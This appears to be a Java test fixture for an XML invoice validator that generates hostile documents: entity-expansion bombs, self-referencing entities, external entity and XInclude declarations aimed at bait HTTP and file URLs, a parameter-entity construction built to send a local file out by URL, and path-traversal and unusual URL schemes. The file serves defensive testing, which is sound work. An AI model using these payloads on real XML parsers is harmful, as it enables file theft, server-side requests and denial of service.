// SPDX-License-Identifier: Apache-2.0
package org.crossborder.validation.hostile;

import static org.crossborder.validation.hostile.Subjects.PLAIN;
import static org.crossborder.validation.hostile.Subjects.ROOT_END;
import static org.crossborder.validation.hostile.Subjects.changed;
import static org.crossborder.validation.hostile.Subjects.root;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Document types, entities that grow or reach outside, and inclusions. */
final class Entities {
  private static final String XINCLUDE = "http://www.w3.org/2001/XInclude";

  private Entities() {}

  static Stream<HostileDocument> all(Bait bait) {
    return Stream.of(internal(), external(bait), schemes(bait), inclusions(bait))
        .flatMap(cases -> cases);
  }

  private static Stream<HostileDocument> internal() {
    return Stream.of(
        doctype("a document type alone", ""),
        doctype("an entity that is never used", "<!ENTITY e 'x'>"),
        doctype("a billion laughs", bomb(10, 10)),
        doctype("a million laughs in few steps", bomb(3, 100)),
        doctype(
            "a quadratic bomb", "<!ENTITY e '" + "x".repeat(50_000) + "'>", "&e;".repeat(5_000)),
        doctype("an entity of itself", "<!ENTITY e0 '&e0;'>"),
        doctype("two entities of each other", "<!ENTITY e0 '&e1;'><!ENTITY e1 '&e0;'>"),
        doctype("a bomb of parameter entities", parameterBomb()),
        doctype("ten thousand entities", many("<!ENTITY x%d 'x'>")),
        doctype("ten thousand default attributes", many("<!ATTLIST r a%d CDATA 'x'>")),
        doctype("an attribute that the document type adds", "<!ATTLIST r Id CDATA 'x'>"),
        doctype("markup in an entity", "<!ENTITY e0 '<x/>'>"),
        doctype("a content model that takes exponential time", "<!ELEMENT r ((a?,a?)*,(a|a)*)*>"),
        HostileDocument.of("an entity that nobody declared", "IN-02", value("&nbsp;")),
        HostileDocument.of("an entity without an end", "IN-02", value("&amp")),
        HostileDocument.of("a document type in small letters", "IN-02", "<!doctype r>" + root()),
        HostileDocument.of("a document type after the root", "IN-02", PLAIN + "<!DOCTYPE r>"),
        HostileDocument.of(
            "a document type within the root",
            "IN-02",
            changed(PLAIN, ROOT_END, "<!DOCTYPE r>" + ROOT_END)),
        HostileDocument.of(
            "a document type in UTF-16",
            "IN-03",
            "\uFEFF<!DOCTYPE r [<!ENTITY e 'x'>]>" + root(),
            StandardCharsets.UTF_16BE));
  }

  private static Stream<HostileDocument> external(Bait bait) {
    return Stream.of(bait.http(), bait.file())
        .flatMap(
            url ->
                Stream.of(
                    doctype("an external entity: " + url, "<!ENTITY e0 SYSTEM '" + url + "'>"),
                    doctype(
                        "a public external entity: " + url,
                        "<!ENTITY e0 PUBLIC '-//X//Y' '" + url + "'>"),
                    doctype(
                        "a parameter entity: " + url, "<!ENTITY % p SYSTEM '" + url + "'> %p;", ""),
                    doctype(
                        "an unparsed entity: " + url,
                        "<!NOTATION n SYSTEM '"
                            + url
                            + "'><!ENTITY e SYSTEM '"
                            + url
                            + "' NDATA n>",
                        ""),
                    HostileDocument.of(
                        "an external document type: " + url,
                        "IN-03",
                        "<!DOCTYPE r SYSTEM '" + url + "'>" + root()),
                    HostileDocument.of(
                        "a public document type: " + url,
                        "IN-03",
                        "<!DOCTYPE r PUBLIC '-//OASIS//DTD' '" + url + "'>" + root()),
                    doctype(
                        "what would send a file away by a URL: " + url,
                        "<!ENTITY % f SYSTEM '"
                            + bait.file()
                            + "'><!ENTITY % d SYSTEM '"
                            + url
                            + "'>%d;%f;",
                        "")));
  }

  private static Stream<HostileDocument> schemes(Bait bait) {
    return Stream.of(
            "https://" + bait.web() + "/",
            "ftp://" + bait.web() + "/x",
            "jar:http://" + bait.web() + "/x.jar!/x",
            "jar:file:" + bait.path() + "!/x",
            "netdoc:" + bait.path(),
            "//" + bait.web() + "/x",
            bait.path(),
            "../../../../../../.." + bait.path(),
            "data:text/plain,x",
            "gopher://" + bait.web() + "/x",
            "classpath:/application.yml",
            "http://user:secret@" + bait.web() + "/")
        .map(url -> doctype("an entity from " + url, "<!ENTITY e0 SYSTEM '" + url + "'>"));
  }

  private static Stream<HostileDocument> inclusions(Bait bait) {
    return Stream.of(bait.http(), bait.file())
        .flatMap(
            url ->
                Stream.of(
                    including("an inclusion", "href='" + url + "'/>"),
                    including("an inclusion as text", "href='" + url + "' parse='text'/>"),
                    including("an inclusion of a part", "href='" + url + "' xpointer='/1'/>"),
                    including(
                        "an inclusion that may fail",
                        "href='x:y'><i:fallback><i:include href='"
                            + url
                            + "'/></i:fallback></i:include>")));
  }

  private static HostileDocument including(String name, String rest) {
    String include = "<i:include xmlns:i='" + XINCLUDE + "' " + rest;
    return HostileDocument.of(
        name + ": " + rest, "IN-11", changed(PLAIN, ROOT_END, include + ROOT_END));
  }

  private static HostileDocument doctype(String name, String subset) {
    return doctype(name, subset, subset.contains("e0 ") ? "&e0;" : "x");
  }

  private static HostileDocument doctype(String name, String subset, String used) {
    return HostileDocument.of(
        name, "IN-03", "<!DOCTYPE r [" + subset + "]>" + value(used).substring(xml()));
  }

  private static int xml() {
    return PLAIN.indexOf(Subjects.ROOT_START);
  }

  private static String value(String text) {
    return Subjects.replaced(PLAIN, "(<cbc:Note[^>]*>|<cbc:ProfileID>)[^<]*", "$1" + text);
  }

  private static String bomb(int steps, int factor) {
    return IntStream.rangeClosed(0, steps)
        .map(step -> steps - step)
        .mapToObj(
            step ->
                "<!ENTITY e%d '%s'>"
                    .formatted(
                        step, step == steps ? "ha" : ("&e" + (step + 1) + ";").repeat(factor)))
        .collect(Collectors.joining());
  }

  private static String parameterBomb() {
    return List.of(
            "<!ENTITY % a 'x'>",
            "<!ENTITY % b '%a;%a;%a;%a;%a;%a;'>", "<!ENTITY % c '%b;%b;%b;'> %c;")
        .stream()
        .collect(Collectors.joining());
  }

  private static String many(String declaration) {
    return IntStream.range(0, 10_000)
        .mapToObj(declaration::formatted)
        .collect(Collectors.joining());
  }
}
